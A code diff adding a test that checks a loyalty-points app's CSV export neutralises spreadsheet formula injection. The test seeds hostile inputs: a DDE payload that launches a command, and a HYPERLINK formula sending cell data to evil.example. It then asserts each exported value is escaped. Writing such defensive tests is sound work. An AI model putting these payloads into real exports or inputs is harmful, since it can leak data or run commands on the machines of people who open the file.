@@ -90,3 +90,48 @@ def test_platform_admin_exports_everything(world, clients):
 
 def test_staff_cannot_export(world, clients):
     assert clients["staff"].get(reverse(EXPORT)).status_code == 302
+
+
+def test_csv_export_neutralises_spreadsheet_formulas_and_keeps_numbers(world, clients):
+    """A note, an order reference or a PIN name typed as a formula is exported as text, not run by a spreadsheet."""
+    from loyalty.services.cards import CardRef
+    from loyalty.services.points import points_adjust, points_earn
+    from tests import factories
+
+    store, card = world.alpha.store, world.alpha.card
+    pin = factories.make_pin(store, pin="9876", name="@SUM(1+1)*cmd|' /C calc'!A0")
+    points_earn(
+        actor=factories.till_actor(store),
+        card_ref=CardRef(card_id=card.pk),
+        purchase_amount_cents=500,
+        order_reference='=HYPERLINK("https://evil.example/?"&A2,"Click")',
+        staff_pin="9876",
+        staff_pin_id=pin.pk,
+        notes="+1+1",
+    )
+    points_adjust(actor=factories.owner_actor(store), card_ref=CardRef(card_id=card.pk), points_delta=-5, reason="-2+3")
+    for index, hostile in enumerate(("\tTab", "\rReturn")):
+        points_earn(
+            actor=factories.till_actor(store),
+            card_ref=CardRef(card_id=card.pk),
+            purchase_amount_cents=100,
+            order_reference=f"order-{index}",
+            notes=hostile,
+        )
+
+    rows = _rows(clients["owner"].get(reverse(EXPORT)))
+
+    earned = next(row for row in rows if row["purchase_amount_cents"] == "500")
+    assert earned["order_reference"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    assert earned["staff"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert earned["notes"] == "'+1+1"
+    adjusted = next(row for row in rows if row["type"] == TransactionType.POINTS_ADJUSTED)
+    assert (adjusted["notes"], adjusted["points_delta"]) == ("'-2+3", "-5")  # the delta stays a number
+    assert {row["notes"] for row in rows if row["order_reference"].startswith("order-")} == {"'\tTab", "'\rReturn"}
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert not [
+        (name, value)
+        for row in rows
+        for name, value in row.items()
+        if name != "points_delta" and name != "stamps_delta" and value.startswith(dangerous)
+    ]
